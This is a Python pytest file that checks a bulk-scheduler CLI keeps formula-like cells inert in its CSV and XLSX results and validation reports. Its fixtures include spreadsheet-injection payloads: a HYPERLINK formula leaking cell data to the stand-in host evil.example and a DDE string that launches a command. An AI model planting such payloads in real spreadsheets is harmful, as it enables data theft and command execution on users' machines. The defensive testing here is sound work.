"""Spreadsheet (CSV/formula) injection: cells that a spreadsheet would run stay inert text.

A campaign's captions and other cells may begin with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return. Written back into a results sheet or a report they must
be text: an XLSX string cell with no ``<f>`` element, a CSV value led by ``'``.
What goes to the API is the user's caption, unchanged, and running the results
CSV again sends it without the guard quote.
"""

from __future__ import annotations

import asyncio
import csv
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import Workbook, load_workbook

from bulk_scheduler.api.client import ApiKey, PartnerClient
from bulk_scheduler.cli.commands import cli
from bulk_scheduler.sandbox import seed
from bulk_scheduler.sandbox.server import SandboxServer

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CAPTIONS = {
    "inj-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "inj-plus": "+1+1",
    "inj-minus": "-2+3",
    "inj-at": "@SUM(A1)",
    "inj-tab": "\t=1+1 after a tab",
    "inj-cr": "\r=1+1 after a carriage return",
    "inj-dde": "=cmd|' /C calc'!A0",
}
NOTES = ["=1+2", "+33 6 12 34 56 78", "-50% today", "@channel", "\t-tab", "\r+cr", "plain"]
EVIL_HEADER = '=HYPERLINK("http://evil.example","header")'
HEADER = ["external_id", "caption", "media_type", "media_urls", "accounts", "scheduled_at"]
FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z_][\w.\-]*:)?f[\s>/]")


# --- helpers ----------------------------------------------------------------------------------


def invoke(*args: str | Path) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args])


def campaign_rows(header: str = "notes") -> list[list[str]]:
    rows = [[*HEADER, header]]
    for index, (external_id, caption) in enumerate(CAPTIONS.items()):
        rows.append(
            [
                external_id,
                caption,
                "video",
                f"https://cdn.genviral.com/clips/{index}.mp4",
                seed.BYO_TIKTOK_ID,
                f"2036-08-{index + 1:02d}T09:00:00Z",
                NOTES[index % len(NOTES)],
            ]
        )
    return rows


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list[str]]) -> Path:
    """Text cells as a user types them in Excel ('=... is text, not a formula)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row_number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_number, column=column, value=value)
            cell.data_type = "s"
    book.save(path)
    return path


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_csv_inert(path: Path) -> None:
    """No cell of the file starts with what a spreadsheet would run."""
    live = [cell for row in csv_cells(path) for cell in row if cell.startswith(TRIGGERS)]
    assert live == [], f"{path.name}: {live}"


def assert_xlsx_inert(path: Path) -> None:
    """No formula anywhere, and every text cell is a string cell."""
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert FORMULA_ELEMENT.search(archive.read(part)) is None, part
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)


def payload_captions(campaign: Path, folder: Path) -> dict[str, str]:
    """What ``run`` would send, per external_id, as ``validate --payloads`` tells it."""
    payloads = folder / "payloads.jsonl"
    result = invoke("validate", "--offline", campaign, "--payloads", payloads)
    assert result.exit_code == 0, result.output
    entries = [json.loads(line) for line in payloads.read_text(encoding="utf-8").splitlines()]
    payloads.unlink()
    return {entry["external_id"]: entry["body"]["caption"] for entry in entries}


def stored_captions(server: SandboxServer) -> dict[str, str]:
    """external_id -> caption, as the API stored each post."""

    async def fetch() -> dict[str, str]:
        async with PartnerClient(ApiKey(server.api_key), server.base_url) as client:
            posts = await client.list_posts(limit=100)
            return {str(post.external_id): str(post.caption) for post in posts}

    return asyncio.run(fetch())


def results_by_id(path: Path) -> dict[str, dict[str, Any]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return {row["external_id"]: row for row in csv.DictReader(handle)}
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return {
        str(row[header.index("external_id")].value): {
            h: c for h, c in zip(header, row, strict=True)
        }
        for row in rows[1:]
    }


def fail_first_run_with_server_errors(campaign: Path, server: SandboxServer) -> None:
    """Every create answered 500 once: every row is written back as ``error``, unsent."""
    server.set_faults(error_rate=1.0)
    result = invoke("run", campaign, "--yes", "--max-attempts", "1")
    assert result.exit_code == 1, result.output
    server.set_faults(error_rate=0.0)


# --- the results sheet ------------------------------------------------------------------------


def test_the_api_receives_captions_exactly_as_the_user_wrote_them(
    tmp_path: Path, api_env: SandboxServer
) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows())
    planned = payload_captions(campaign, tmp_path)
    for external_id, caption in CAPTIONS.items():
        if not caption.startswith("\r"):  # a leading blank line is dropped (planner.py)
            assert planned[external_id] == caption
    result = invoke("run", campaign, "--yes")
    assert result.exit_code == 0, result.output
    assert stored_captions(api_env) == planned


def test_csv_results_quote_every_formula_like_cell(tmp_path: Path, api_env: SandboxServer) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows())
    assert invoke("run", campaign, "--yes").exit_code == 0
    results = tmp_path / "c.results.csv"
    assert_csv_inert(results)
    rows = results_by_id(results)
    for external_id, caption in CAPTIONS.items():
        assert rows[external_id]["caption"] == "'" + caption
        assert rows[external_id]["result"] == "created"


def test_a_formula_like_header_is_quoted_in_csv_results(
    tmp_path: Path, api_env: SandboxServer
) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows(header=EVIL_HEADER))
    assert invoke("run", campaign, "--yes").exit_code == 0
    header = csv_cells(tmp_path / "c.results.csv")[0]
    assert "'" + EVIL_HEADER in header
    assert_csv_inert(tmp_path / "c.results.csv")


def test_rerunning_the_results_csv_sends_captions_without_the_guard_quote(
    tmp_path: Path, api_env: SandboxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows())
    planned = payload_captions(campaign, tmp_path)
    fail_first_run_with_server_errors(campaign, api_env)
    results = tmp_path / "c.results.csv"
    assert_csv_inert(results)
    assert {r["result"] for r in results_by_id(results).values()} == {"error"}

    rerun = invoke("run", results, "--yes")
    assert rerun.exit_code == 0, rerun.output
    assert stored_captions(api_env) == planned
    assert_csv_inert(results)


OWN_QUOTES = [
    "'=not a formula, the quote is mine",
    "''=two quotes of mine",
]


@pytest.mark.parametrize("caption", OWN_QUOTES)
def test_a_caption_that_starts_with_the_users_own_quote_survives_a_rerun(
    caption: str, tmp_path: Path, api_env: SandboxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = campaign_rows()[:2]
    rows[1][1] = caption
    campaign = write_csv(tmp_path / "c.csv", rows)
    planned = payload_captions(campaign, tmp_path)
    assert planned == {"inj-equals": caption}
    fail_first_run_with_server_errors(campaign, api_env)
    assert invoke("run", tmp_path / "c.results.csv", "--yes").exit_code == 0
    assert stored_captions(api_env) == planned


def test_a_guarded_header_does_not_gain_a_quote_on_each_rerun(
    tmp_path: Path, api_env: SandboxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows(header=EVIL_HEADER))
    fail_first_run_with_server_errors(campaign, api_env)
    results = tmp_path / "c.results.csv"
    assert invoke("run", results, "--yes").exit_code == 0
    assert "'" + EVIL_HEADER in csv_cells(results)[0]


def test_xlsx_results_hold_formula_like_cells_as_text(
    tmp_path: Path, api_env: SandboxServer
) -> None:
    campaign = write_xlsx(tmp_path / "c.xlsx", campaign_rows(header=EVIL_HEADER))
    planned = payload_captions(campaign, tmp_path)
    result = invoke("run", campaign, "--yes")
    assert result.exit_code == 0, result.output
    results = tmp_path / "c.results.xlsx"
    assert_xlsx_inert(results)
    rows = results_by_id(results)
    for external_id in CAPTIONS:
        cell = rows[external_id]["caption"]
        assert cell.data_type == "s"
        assert cell.value.replace("\r", "\n").strip() == planned[external_id].strip()
    assert stored_captions(api_env) == planned


def test_rerunning_the_results_xlsx_sends_the_same_captions(
    tmp_path: Path, api_env: SandboxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    campaign = write_xlsx(tmp_path / "c.xlsx", campaign_rows())
    planned = payload_captions(campaign, tmp_path)
    fail_first_run_with_server_errors(campaign, api_env)
    results = tmp_path / "c.results.xlsx"
    assert_xlsx_inert(results)
    rerun = invoke("run", results, "--yes")
    assert rerun.exit_code == 0, rerun.output
    assert stored_captions(api_env) == planned
    assert_xlsx_inert(results)


# --- validate --report ------------------------------------------------------------------------


def invalid_rows() -> list[list[str]]:
    """Rows whose issues quote formula-like cells back (bad URLs, unknown accounts)."""
    rows = campaign_rows()
    rows[1][3] = '=HYPERLINK("http://evil.example","media")'
    rows[2][4] = "@=1+1"
    rows[3][5] = "-2+3"
    return rows


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_report_cells_that_quote_the_sheet_are_inert(suffix: str, tmp_path: Path) -> None:
    campaign = write_csv(tmp_path / "c.csv", invalid_rows())
    report = tmp_path / f"report{suffix}"
    result = invoke("validate", "--offline", campaign, "--report", report)
    assert result.exit_code == 1, result.output
    if suffix == ".csv":
        cells = csv_cells(report)
        assert len(cells) > 3  # the bad cells were reported
        assert_csv_inert(report)
    else:
        assert load_workbook(report).worksheets[0].max_row > 3
        assert_xlsx_inert(report)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_formula_like_header_is_inert_in_reports(suffix: str, tmp_path: Path) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows(header=EVIL_HEADER))
    report = tmp_path / f"report{suffix}"
    assert invoke("validate", "--offline", campaign, "--report", report).exit_code == 0
    if suffix == ".csv":
        assert_csv_inert(report)
    else:
        assert_xlsx_inert(report)


def test_payloads_carry_captions_unguarded(tmp_path: Path) -> None:
    campaign = write_csv(tmp_path / "c.csv", campaign_rows())
    planned = payload_captions(campaign, tmp_path)
    assert planned["inj-equals"] == CAPTIONS["inj-equals"]
    assert not any(caption.startswith("'") for caption in planned.values())
